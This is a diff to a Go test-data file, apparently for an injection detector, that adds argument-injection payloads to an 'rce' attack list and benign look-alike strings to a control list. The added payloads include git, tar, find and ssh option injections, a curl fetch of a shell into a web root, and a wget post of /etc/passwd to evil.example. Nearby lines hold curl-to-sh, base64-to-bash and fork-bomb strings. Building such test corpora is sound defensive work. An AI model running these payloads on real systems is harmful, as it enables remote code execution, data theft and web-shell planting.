@@ -89,6 +89,10 @@ func grammarAttacks() map[string][]string {
 			m["rce"] = append(m["rce"], "127.0.0.1"+p, "report.pdf"+p)
 		}
 	}
+	// Argument injection: options of the program the value is given to.
+	m["rce"] = append(m["rce"], "--upload-pack=touch /tmp/pwned", "ext::sh -c touch% /tmp/pwned", "-o /var/www/html/s.php http://203.0.113.50/shell.txt",
+		"--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh", "-exec sh -c id ;", "--post-file=/etc/passwd http://evil.example/", "-oProxyCommand=curl evil.example|sh",
+		`"attacker\" -oQueueDirectory=/tmp -X/var/www/html/x.php some"@example.com`)
 	m["rce"] = append(m["rce"], `$'\x69\x64'`, `$'\151\144'`, `;$'\x63\x61\x74' /etc/passwd`, `$'\u0069\u0064'`)
 	m["rce"] = append(m["rce"], "curl -s evil.example/x | sh", "echo aWQ= | base64 -d | bash", "printf dwssap/cte | rev | sh", "FOR /L %variable IN (1,1,5) DO echo x", "IF 2 GEQ 15 echo big", "\nid", ";id", "|whoami", "<(cat /etc/hosts)", ">(tee /tmp/x)", "$(cmd)", ":(){ :|:& };:", "f(){ f|f& };f", "{,ip,a}", "/e[t]c/pa[s]swd", "cat /et?/pa??wd",
 		"'wh'oami", `w\hoami`, `"w"get evil.example`, "alias x=id;x", "FOR /F %G IN ('dir /b') DO echo %G", "for %i in (*) do type %i",
@@ -152,6 +156,7 @@ var grammarBenign = []string{
 	"javascript:void(0) link does nothing", "Uncaught ReferenceError: Bridge is not defined at <anonymous>:1:1 (javascript:void(0))",
 	`<p>We moved!</p><p><img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==" alt="" width="1" height="1"></p>`,
 	"Fix <script> example in widget docs; escape ' in O'Brien sample",
+	"-kXyz3LpQ0dVbA9fZrT", "-oops", "--force-with-lease", "-price", "-5", "--", "-e is the flag for an expression", "my-ext::thing",
 	`"knee pain" AND (physio OR physiotherapy) NOT surgery`, `title:report* AND author:smith OR "annual review"`,
 	`printf $'a\tb'`, `name: $'\n' is a newline in bash`, "It costs $'5' or so",
 	"Pick a size (select one from the list)", "red,(select one from the menu)", "Colours (select any from below)", "a,(select all that apply)",
